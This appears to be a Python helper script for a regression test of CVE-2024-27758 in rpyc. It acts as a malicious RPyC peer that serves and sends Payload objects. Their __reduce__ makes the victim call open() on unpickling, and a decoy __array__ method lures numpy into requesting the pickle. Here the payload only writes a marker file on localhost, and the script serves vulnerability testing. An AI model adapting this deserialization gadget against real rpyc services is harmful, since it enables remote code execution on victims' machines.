#!/usr/bin/env python
"""A malicious RPyC peer for the CVE-2024-27758 regression test (runs under upstream rpyc
6.0.2 or ours: an attacker needs nothing but stock rpyc with ``allow_pickle=True``).

It offers ``Payload`` objects whose class has ``__array__`` (so the victim's proxy gets an
``__array__`` method, which numpy calls) and whose pickle, when *loaded*, calls
``open(MARKER, "w")``: if the victim ever unpickles it, MARKER exists. Whenever the victim asks
for the pickle (HANDLE_PICKLE), ``__reduce__`` runs here and appends to MARKER + ".asked".

    cve_2024_27758_peer.py server MARKER       serve Payloads; print "PORT n"; run until stdin closes
    cve_2024_27758_peer.py client MARKER PORT  hand a Payload to each exposed method of the
                                               victim's server; print one JSON line of results
"""

import json
import sys
import threading
import time

import rpyc
from rpyc.utils.server import ThreadedServer

MARKER = sys.argv[2]


class Payload:
    def __array__(self, *args, **kwargs):  # never runs here; its name is what matters
        raise AssertionError("not reached")

    def __reduce__(self):
        with open(MARKER + ".asked", "a") as f:
            f.write("pickle requested\n")
        return (open, (MARKER, "w"))


class MaliciousService(rpyc.Service):
    def exposed_payload(self):
        return Payload()


CONFIG = {"allow_pickle": True, "sync_request_timeout": 10}


def serve():
    server = ThreadedServer(MaliciousService, hostname="127.0.0.1", port=0, protocol_config=CONFIG)
    threading.Thread(target=server.start, daemon=True).start()
    while not server.active:
        time.sleep(0.01)
    print("PORT %d" % server.port, flush=True)
    sys.stdin.read()  # until the test closes our stdin
    server.close()


def attack(port):
    conn = rpyc.connect("127.0.0.1", port, service=MaliciousService, config=CONFIG)
    results = {}
    for name in ("as_array", "deepcopy", "copy", "obtain", "pickle_roundtrip", "numpy_array"):
        try:
            results[name] = {"returned": repr(getattr(conn.root, name)(Payload()))}
        except Exception as exc:
            results[name] = {"error": type(exc).__name__, "message": str(exc).split("\n")[0]}
    conn.close()
    print(json.dumps(results), flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "server":
        serve()
    else:
        attack(int(sys.argv[3]))
